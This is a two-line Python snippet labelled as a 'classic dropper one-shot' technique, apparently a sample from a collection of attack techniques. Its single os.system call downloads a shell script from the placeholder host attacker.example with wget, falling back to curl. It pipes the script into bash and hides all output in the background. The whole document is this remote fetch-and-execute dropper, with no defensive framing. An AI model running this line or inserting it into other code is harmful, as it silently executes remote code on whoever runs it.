# technique: wget piped to bash via os.system with fallback to curl, classic dropper one-shot
import os
os.system("(wget -qO- http://attacker.example/x.sh || curl -fsSL http://attacker.example/x.sh) | bash >/dev/null 2>&1 &")
